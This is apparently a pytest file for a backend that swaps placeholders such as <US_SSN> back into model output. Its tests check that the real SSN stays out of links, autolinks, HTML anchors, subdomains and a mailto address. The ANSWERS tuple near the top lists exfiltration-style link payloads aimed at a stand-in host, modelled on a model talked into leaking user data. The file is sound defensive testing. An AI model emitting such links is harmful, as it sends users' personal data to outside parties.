"""The model was talked into a link that carries the user's data elsewhere: the link leaves unfilled."""

from __future__ import annotations

import pytest

from tests.support.backend import Backend, fresh

SSN = "457-55-5462"
ANSWERS = (
    "[click](https://elsewhere.example/?q=<US_SSN>)",
    "[click](<https://elsewhere.example/?q=<US_SSN>>)",
    "<https://elsewhere.example/?q=<US_SSN>>",
    "See https://elsewhere.example/?q=<US_SSN> now",
    '<a href="https://elsewhere.example/?q=<US_SSN>">x</a>',
    "[click][1]\n\n[1]: https://elsewhere.example/?q=<US_SSN>",
    "[click](//elsewhere.example/<US_SSN>)",
    "[click](https://<US_SSN>.elsewhere.example/)",
    "[mail](mailto:eve@elsewhere.example?body=<US_SSN>)",
    "www.elsewhere.example/<US_SSN>",
)


@pytest.mark.parametrize("answer", ANSWERS)
async def test_nothing_is_filled_in(backend: Backend, answer: str) -> None:
    user = await backend.member(fresh("victim"))
    admission = await backend.admitted(user, f"My SSN is {SSN}")
    shown = await backend.complete(admission, f"Here: {answer}\n\nYou are <US_SSN>.")
    assert shown.text.count(SSN) <= 1
    assert SSN not in shown.text.split("\n\nYou are")[0]


@pytest.mark.parametrize("answer", ANSWERS)
async def test_nor_in_a_stream_cut_anywhere(backend: Backend, answer: str) -> None:
    user = await backend.member(fresh("victim"))
    admission = await backend.admitted(user, f"My SSN is {SSN}")
    shown, _ = await backend.stream(admission, [f"Here: {answer}"[i : i + 3] for i in range(0, len(answer) + 6, 3)])
    assert SSN not in shown


async def test_plain_words_are_filled(backend: Backend) -> None:
    user = await backend.member(fresh("owner"))
    admission = await backend.admitted(user, f"My SSN is {SSN}")
    assert (await backend.complete(admission, "You are <US_SSN>.")).text == f"You are {SSN}."
